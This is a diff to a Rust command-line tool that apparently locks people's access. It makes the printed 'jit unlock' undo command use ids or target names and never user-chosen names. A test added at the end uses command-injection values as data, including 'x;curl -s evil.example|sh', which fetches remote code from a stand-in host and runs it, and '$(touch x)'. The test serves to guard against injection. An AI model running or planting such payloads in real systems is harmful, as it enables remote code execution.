@@ -4,7 +4,9 @@
 use std::time::Duration;
 
 use super::context::{Ctx, Desk};
-use crate::domain::text::Reason;
+use crate::domain::PersonId;
+use crate::domain::called::is_plain;
+use crate::domain::text::{Reason, TargetName};
 use crate::error::{Error, Result};
 use crate::ui::{State, TimeWords, lock_line};
 use crate::wire::{LockView, Locked, NewDevice, NewLock};
@@ -56,7 +58,7 @@ pub(super) fn stop(desk: &Desk, on: &str, reason: &Reason) -> Result<Locked> {
 ///
 /// # Errors
 /// A closed pipe.
-pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: Words) -> Result<()> {
+pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: (Words, &str)) -> Result<()> {
     if ctx.ui.is_json() {
         return ctx.ui.json("jit/lock/1", locked);
     }
@@ -71,7 +73,7 @@ pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: Words) -> Re
         ),
         None => String::new(),
     };
-    match (locked.set, typed) {
+    match (locked.set, typed.0) {
         (false, _) => {
             let line = lock_line(lock, &words).replacen(" is locked", " is locked already", 1);
             let kept = kept(locked);
@@ -79,12 +81,12 @@ pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: Words) -> Re
                 .note_marked(State::Refused, &format!("{line}.{kept} {ended}{rest}"));
         }
         (true, Words::Locked) => {
-            let what = what(lock);
+            let what = lock.what();
             ctx.ui
                 .note_marked(State::Refused, &format!("Locked {what}. {ended}{rest}"));
         }
         (true, Words::Revoked) => {
-            let line = format!("Took everything from {}, who is locked now. {ended}{rest}", lock.name);
+            let line = format!("Took everything from {}, who is locked now. {ended}{rest}", lock.what());
             ctx.ui.note_marked(State::Refused, &line);
         }
     }
@@ -102,9 +104,29 @@ pub(super) fn print(ctx: &Ctx, desk: &Desk, locked: &Locked, typed: Words) -> Re
         _ if is_own => ", by somebody else",
         _ => "",
     };
-    let undo = format!("Nothing comes back by itself.  undo{who}: jit unlock {}", lock.name);
+    for other in &locked.namesakes {
+        let message = format!("somebody else is called so too: {}", other.called());
+        let id = PersonId::parse(&other.id).map_or_else(|_| "WHO".to_owned(), |id| id.to_string());
+        ctx.ui.warn(&message, &format!("if you meant them: jit lock {id}"));
+    }
+    let undo = format!(
+        "Nothing comes back by itself.  undo{who}: jit unlock {}",
+        again(lock, typed.1)
+    );
     ctx.ui.note(&undo);
     Ok(())
+}
+
+/// What a command names it by again: as it was typed, by its id or the name of a target; never by a name that somebody chose.
+fn again(lock: &LockView, typed: &str) -> String {
+    let person = lock.id.strip_prefix("person:").map(PersonId::parse);
+    let name = typed.strip_prefix("person:").unwrap_or(typed);
+    match (person, TargetName::parse(&lock.name)) {
+        (Some(_), _) if is_plain(name) => typed.to_owned(),
+        (Some(Ok(id)), _) => id.to_string(),
+        (None, Ok(target)) => target.to_string(),
+        (Some(Err(_)), _) | (None, Err(_)) => "WHO".to_owned(),
+    }
 }
 
 /// Says which locks stand, beside what is listed.
@@ -130,7 +152,7 @@ pub(super) fn note_devices(ctx: &Ctx, words: &TimeWords, devices: &[NewDevice]) 
 fn kept(locked: &Locked) -> String {
     let begun = locked.taken_back.as_ref();
     begun.map_or_else(String::new, |lift| {
-        format!(" {}'s half of lifting it is taken back.", lift.by.name)
+        format!(" {}'s half of lifting it is taken back.", lift.by.called())
     })
 }
 
@@ -140,13 +162,6 @@ fn remaining(locked: &Locked) -> String {
         0 => String::new(),
         1 => " The access of 1 remains: it was there before jit.".to_owned(),
         many => format!(" The access of {many} remains: it was there before jit."),
-    }
-}
-
-fn what(lock: &LockView) -> &str {
-    match lock.scope.as_str() {
-        "all" => "everything",
-        _ => &lock.name,
     }
 }
 
@@ -160,5 +175,42 @@ fn ended(locked: &Locked) -> String {
         (0, 0) => "Nothing was open under it.".to_owned(),
         (all, 0) => format!("{} ended.", grants(all)),
         (_, left) => format!("{} still ending: jit status.", grants(left)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn lock(id: &str, name: &str) -> LockView {
+        let by = serde_json::json!({"id": "usr_000000000001", "name": "bob"});
+        serde_json::from_value(serde_json::json!({
+            "id": id, "scope": id.split(':').next(), "name": name, "by": by, "reason": "stolen",
+            "since": "2026-11-21T14:31:00Z",
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn attack_16_command_that_undoes_a_lock_holds_no_chosen_name() {
+        let id = "person:usr_000000000000";
+        for (id, name, typed, again_by) in [
+            (id, "alice", "alice", "alice"),
+            (id, "alice", "person:alice", "person:alice"),
+            (
+                id,
+                "x;curl -s evil.example|sh",
+                "x;curl -s evil.example|sh",
+                "usr_000000000000",
+            ),
+            (id, "x;curl", "usr_000000000000", "usr_000000000000"),
+            (id, "all", "person:all", "usr_000000000000"),
+            ("person:$(touch x)", "x", "x y", "WHO"),
+            ("target:prod-admin", "prod-admin", "prod", "prod-admin"),
+            ("target:$(touch x)", "$(touch x)", "prod", "WHO"),
+            ("all", "all", "all", "all"),
+        ] {
+            assert_eq!(again(&lock(id, name), typed), again_by);
+        }
     }
 }
